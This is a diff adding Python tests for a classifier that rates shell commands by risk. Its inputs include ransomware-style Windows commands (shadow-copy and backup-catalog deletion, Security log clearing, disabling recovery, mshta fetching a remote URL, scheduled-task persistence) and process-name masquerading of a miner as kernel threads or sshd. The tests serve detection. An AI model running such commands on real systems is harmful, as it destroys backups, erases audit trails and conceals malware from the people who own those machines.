@@ -130,3 +130,39 @@ def test_a_management_script_is_a_program_of_its_own(tasks: str) -> None:
         assert level(f"{tasks} {verb}") is Level.HIGH
     for verb in ("test", "runserver", "migrate"):
         assert level(f"{tasks} {verb}") is Level.MEDIUM
+
+
+@each("folder", ["", "/mnt/c/Windows/System32/", "wine ", "cmd.exe /c "])
+def test_a_program_of_windows_is_judged_by_its_name(folder: str) -> None:
+    for bad in (
+        "vssadmin.exe delete shadows /all",
+        "WBADMIN.EXE delete catalog",
+        "bcdedit.exe /set x recoveryenabled no",
+        "wevtutil.exe cl Security",
+        "wmic.exe shadowcopy delete",
+        "cipher.exe /w:x",
+        "mshta.exe http://h.example/x",
+        "schtasks.exe /create /tn x /tr y",
+    ):
+        assert level(folder + bad.replace(".exe", "").lower() if folder == "wine " else folder + bad) is Level.HIGH, bad
+    if folder in ("", "/mnt/c/Windows/System32/"):
+        for shown in (
+            "tasklist.exe",
+            "ipconfig.exe /all",
+            "reg.exe query x",
+            "vssadmin.exe list shadows",
+            "wsl.exe -l -v",
+        ):
+            assert level(folder + shown) is Level.LOW, shown
+        for other in ("powercfg.exe /hibernate off", "reg.exe add x", "unheard.exe list", "ipconfig.exe /release"):
+            assert level(folder + other) is Level.MEDIUM, other
+    assert level("./tasklist.exe") is Level.MEDIUM
+    assert level("/tmp/ipconfig.exe /all") is Level.MEDIUM
+
+
+@each("setter", ["exec -a {} {}", "env -a {} {}", "env --argv0={} {}", "bash -c 'exec -a \"{}\" {}'"])
+def test_a_program_that_shows_itself_as_another_is_hidden(setter: str) -> None:
+    for name in ("[kworker/0:1]", "[kswapd0]", "sshd", "-bash"):
+        assert level(setter.format(name, "./miner")) is Level.HIGH, name
+    assert level(setter.format("mytool", "./miner")) is Level.MEDIUM
+    assert level(setter.format("mytool", "ls")) is Level.LOW
